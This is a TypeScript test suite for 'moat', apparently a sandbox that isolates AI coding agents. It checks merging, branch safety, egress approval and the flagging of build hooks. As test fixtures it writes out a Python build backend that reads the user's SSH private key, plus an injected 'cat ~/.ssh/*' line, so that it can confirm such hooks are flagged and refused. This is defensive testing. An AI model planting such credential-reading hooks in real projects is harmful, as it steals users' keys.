import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { captureIO, gitIn, MOAT_BIN, Scratch, scratchPool } from '../helpers/fixtures.js';

const pool = scratchPool();
const scratch = pool.scratch;
afterEach(pool.cleanup);

async function taskWithCommits(s: Scratch, task: string, script: string) {
  const moat = s.moat();
  await moat.up({ task });
  const cap = captureIO();
  const result = await moat.exec(task, ['sh', '-c', script], cap.io);
  expect(result.exitCode, cap.err()).toBe(0);
  return moat;
}

describe("merge, apply and the user's checkout", () => {
  it.each(['merge', 'squash', 'rebase'] as const)('%s brings the commits into the current branch', async (strategy) => {
    const s = scratch();
    const moat = await taskWithCommits(
      s,
      'm',
      'echo one > one.txt && git add -A && git commit -qm one && echo two > two.txt && git add -A && git commit -qm two',
    );
    const result = await moat.merge('m', { strategy });
    expect(result.commits).toBe(2);
    expect(readFileSync(join(s.repo, 'two.txt'), 'utf8')).toBe('two\n');
    const subjects = gitIn(s.repo, 'log', '--format=%s').split('\n');
    if (strategy === 'merge') expect(subjects[0]).toMatch(/^Merge moat task m/);
    if (strategy === 'squash') expect(subjects.slice(0, 2)).toEqual([expect.stringMatching(/squashed 2 commit/), 'initial']);
    if (strategy === 'rebase') expect(subjects.slice(0, 3)).toEqual(['two', 'one', 'initial']);
    expect(gitIn(s.repo, 'status', '--porcelain')).toBe('');
  });

  it('refuses a dirty checkout and changes nothing', async () => {
    const s = scratch();
    const moat = await taskWithCommits(s, 'd', 'echo x > x.txt && git add -A && git commit -qm x');
    writeFileSync(join(s.repo, 'README.md'), 'my unsaved work\n');
    const head = gitIn(s.repo, 'rev-parse', 'HEAD');
    await expect(moat.merge('d')).rejects.toMatchObject({ code: 'E_DIRTY_CHECKOUT', exitCode: 7 });
    expect(gitIn(s.repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(readFileSync(join(s.repo, 'README.md'), 'utf8')).toBe('my unsaved work\n');
  });

  it.each(['merge', 'squash', 'rebase'] as const)('%s: a conflict leaves no half-merged state', async (strategy) => {
    const s = scratch();
    const moat = await taskWithCommits(s, 'c', 'echo agent > README.md && git commit -qam agent');
    writeFileSync(join(s.repo, 'README.md'), 'user\n');
    gitIn(s.repo, 'commit', '-qam', 'user change');
    const head = gitIn(s.repo, 'rev-parse', 'HEAD');
    await expect(moat.merge('c', { strategy })).rejects.toMatchObject({ code: 'E_MERGE_CONFLICT' });
    expect(gitIn(s.repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(gitIn(s.repo, 'status', '--porcelain')).toBe('');
    expect(readFileSync(join(s.repo, 'README.md'), 'utf8')).toBe('user\n');
  });

  it('refuses on a detached HEAD', async () => {
    const s = scratch();
    const moat = await taskWithCommits(s, 'h', 'echo x > x && git add x && git commit -qm x');
    gitIn(s.repo, 'checkout', '-q', '--detach');
    await expect(moat.merge('h')).rejects.toMatchObject({ code: 'E_GIT_HEAD' });
  });

  it('apply lays committed and uncommitted work on the checkout, unstaged', async () => {
    const s = scratch();
    const moat = await taskWithCommits(s, 'a', 'echo c > committed.txt && git add -A && git commit -qm c && echo u > uncommitted.txt');
    const result = await moat.apply('a');
    expect(result.files).toBe(2);
    expect(readFileSync(join(s.repo, 'uncommitted.txt'), 'utf8')).toBe('u\n');
    expect(gitIn(s.repo, 'log', '--format=%s')).toBe('initial');
  });

  it('a branch the user moved is never overwritten: new work is parked', async () => {
    const s = scratch();
    const moat = await taskWithCommits(s, 'mv', 'echo 1 > f && git add f && git commit -qm first');
    gitIn(s.repo, 'branch', '-f', 'moat/mv', 'main');
    await moat.exec('mv', ['sh', '-c', 'echo 2 > f && git commit -qam second'], captureIO().io, { sync: false });
    const sync = await moat.sync('mv');
    expect(sync.parkedAt).toBe('refs/moat/incoming/mv');
    expect(sync.warning).toMatch(/moved outside moat/);
    expect(gitIn(s.repo, 'rev-parse', 'moat/mv')).toBe(gitIn(s.repo, 'rev-parse', 'main'));
    expect(gitIn(s.repo, 'log', '-1', '--format=%s', 'refs/moat/incoming/mv')).toBe('second');
    await expect(moat.merge('mv')).rejects.toMatchObject({ code: 'E_BRANCH_MOVED' });
  });

  it('a deleted task branch loses nothing: the work is parked', async () => {
    const s = scratch();
    const moat = await taskWithCommits(s, 'del', 'echo 1 > f && git add f && git commit -qm first');
    gitIn(s.repo, 'branch', '-D', 'moat/del');
    const sync = await moat.sync('del');
    expect(sync.warning).toMatch(/deleted outside moat/);
    expect(gitIn(s.repo, 'log', '-1', '--format=%s', 'refs/moat/incoming/del')).toBe('first');
  });

  it('the base branch may go away: the task keeps working', async () => {
    const s = scratch();
    gitIn(s.repo, 'checkout', '-q', '-b', 'feature');
    const moat = await taskWithCommits(s, 'gone', 'echo 1 > f && git add f && git commit -qm on-feature');
    gitIn(s.repo, 'checkout', '-q', 'main');
    gitIn(s.repo, 'branch', '-D', 'feature');
    const diff = await moat.diff('gone', { stat: true });
    expect(diff.commits).toBe(1);
    expect((await moat.merge('gone')).commits).toBe(1);
  });

  it('works in a repository on a path with spaces, and with submodules', async () => {
    const s = scratch({ name: 'my repo with spaces' });
    const sub = join(s.root, 'sub repo');
    mkdirSync(sub);
    gitIn(sub, 'init', '-q');
    writeFileSync(join(sub, 'x'), 'x\n');
    gitIn(sub, 'add', '-A');
    gitIn(sub, '-c', 'user.name=t', '-c', 'user.email=t@t.invalid', 'commit', '-qm', 'sub');
    gitIn(s.repo, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', sub, 'vendor/sub');
    gitIn(s.repo, 'commit', '-qm', 'add submodule');
    const moat = await taskWithCommits(s, 'sp', 'echo y > y.txt && git add y.txt && git commit -qm y');
    expect((await moat.diff('sp')).files.map((f) => f.path)).toEqual(['y.txt']);
    expect((await moat.merge('sp')).commits).toBe(1);
  });

  it('a bare repository is refused with a hint', async () => {
    const s = scratch();
    const bare = join(s.root, 'bare.git');
    gitIn(s.root, 'clone', '-q', '--bare', s.repo, bare);
    await expect(s.moat({ cwd: bare }).up({ task: 'b' })).rejects.toMatchObject({ code: 'E_NOT_GIT_REPO', hint: expect.stringMatching(/checkout/) });
  });
});

describe('git inside the sandbox works as a developer expects', () => {
  it('status, add, commit, log, diff, branch, stash and rebasing its own commits; identity from the host', async () => {
    const s = scratch();
    const moat = s.moat();
    await moat.up({ task: 'dev' });
    const script = [
      'set -e',
      'echo a > a.txt && git add a.txt && git commit -qm one',
      'echo b > b.txt && git add b.txt && git commit -qm two',
      'git status --short',
      'echo wip >> a.txt && git stash -q && git stash pop -q && git diff --stat | tail -1',
      'git commit -qam three',
      'git branch side && git branch --list side',
      // Squash its own last two commits, as an agent tidying up would.
      'GIT_SEQUENCE_EDITOR="sed -i 2s/^pick/squash/" GIT_EDITOR=true git rebase -q -i HEAD~2',
      'git log --format="%s|%an|%ae" | head -3',
    ].join('\n');
    const cap = captureIO();
    const result = await moat.exec('dev', ['sh', '-c', script], cap.io);
    expect(result.exitCode, cap.err()).toBe(0);
    expect(cap.out()).toContain('side');
    expect(cap.out()).toContain('two|Test User|test@example.invalid');
    expect(gitIn(s.repo, 'rev-list', '--count', 'main..moat/dev')).toBe('2');
  });
});

describe('moat approve', () => {
  it("a repository's requested hosts count only after the user approved them, and again after they change", async () => {
    const s = scratch();
    s.writeConfig('# my settings\nlimits:\n  pids: 300\n');
    writeFileSync(join(s.repo, 'moat.yaml'), 'egress:\n  allow: [registry.npmjs.org]\n');
    const moat = s.moat();
    await expect(moat.up({ task: 'req' })).rejects.toMatchObject({ code: 'E_CONFIG_WIDENS', hint: expect.stringContaining('moat approve') });
    const approved = await moat.approve();
    expect(approved.approved).toEqual(['registry.npmjs.org']);
    const config = readFileSync(s.config, 'utf8');
    expect(config).toContain('# my settings');
    expect(config).toContain(s.repo);
    const record = await s.moat().up({ task: 'req' });
    expect(record.network).toBe('allowlist');
    expect(record.egress?.allow).toContain('registry.npmjs.org');
    writeFileSync(join(s.repo, 'moat.yaml'), 'egress:\n  allow: [registry.npmjs.org, evil.example.com]\n');
    await expect(s.moat().up({ task: 'req2' })).rejects.toMatchObject({ message: expect.stringContaining('evil.example.com') });
  });
});

describe('review flags on build hooks', () => {
  // The threat the project starts from: a PEP 517 build backend, kept in the repository, that
  // reads ~/.ssh when the user runs `pip install .` after merging.
  const BACKEND = [
    'import os',
    'def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):',
    '    key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()',
    '    open(os.path.join(os.path.dirname(__file__), "stolen"), "w").write(key)',
    '    raise SystemExit(0)',
  ].join('\n');
  const PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n';

  function cli(s: Scratch, args: string[]) {
    const result = spawnSync(process.execPath, [MOAT_BIN, ...args], { cwd: s.repo, env: s.env(), encoding: 'utf8', input: '' });
    return { code: result.status, out: result.stdout, err: result.stderr };
  }

  it('a build backend hook written in the sandbox is flagged by moat diff, and moat merge refuses it without --yes', async () => {
    const s = scratch();
    const write = `mkdir _build && cat > _build/backend.py <<'EOF'\n${BACKEND}\nEOF\ncat > pyproject.toml <<'EOF'\n${PYPROJECT}EOF\n`;
    const moat = await taskWithCommits(s, 'hook', `set -e\n${write}echo ok > notes.txt && git add -A && git commit -qm build`);
    const diff = await moat.diff('hook');
    const flags = Object.fromEntries(diff.files.map((f) => [f.path, f.flags]));
    expect(flags['pyproject.toml']).toContain('python-pyproject');
    expect(flags['_build/backend.py']).toContain('python-in-tree-backend');
    expect(flags['notes.txt']).toEqual([]);

    const shown = cli(s, ['diff', 'hook', '--name-only']);
    expect(shown.code, shown.err).toBe(0);
    expect(shown.err).toMatch(/flag: _build\/backend\.py: Python: pip and build import this in-tree PEP 517 backend/);
    expect(shown.err).toMatch(/flag: pyproject\.toml: Python: pip, build and uv run the build backend/);

    const head = gitIn(s.repo, 'rev-parse', 'HEAD');
    const refused = cli(s, ['merge', 'hook']);
    expect(refused.code).toBe(2);
    expect(refused.err).toMatch(/host tool may run or follow: .*_build\/backend\.py/);
    const flagged = expect.arrayContaining([{ path: '_build/backend.py', flags: ['python-in-tree-backend'] }]);
    await expect(moat.merge('hook')).rejects.toMatchObject({ code: 'E_CONFIRM', details: { flagged } });
    expect(gitIn(s.repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(existsSync(join(s.repo, 'pyproject.toml'))).toBe(false);

    expect((await moat.merge('hook', { yes: true })).commits).toBe(1);
  });

  it('a change to an existing in-tree backend is flagged though pyproject.toml did not change', async () => {
    const s = scratch();
    mkdirSync(join(s.repo, 'py', '_build'), { recursive: true });
    writeFileSync(join(s.repo, 'py', 'pyproject.toml'), '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n');
    writeFileSync(join(s.repo, 'py', '_build', 'backend.py'), 'def build_wheel(*args):\n    return "x.whl"\n');
    gitIn(s.repo, 'add', '-A');
    gitIn(s.repo, 'commit', '-qm', 'in-tree backend');
    const edit = `echo 'import os; os.system("cat ~/.ssh/*")' >> py/_build/backend.py && echo x > py/other.py`;
    const moat = await taskWithCommits(s, 'edit', `${edit} && git commit -qam edit && git add -A && git commit -qm other`);
    const diff = await moat.diff('edit');
    expect(diff.flagged.map((f) => [f.path, f.flags])).toEqual([['py/_build/backend.py', ['python-in-tree-backend']]]);
    await expect(moat.merge('edit')).rejects.toMatchObject({ code: 'E_CONFIRM' });
  });
});
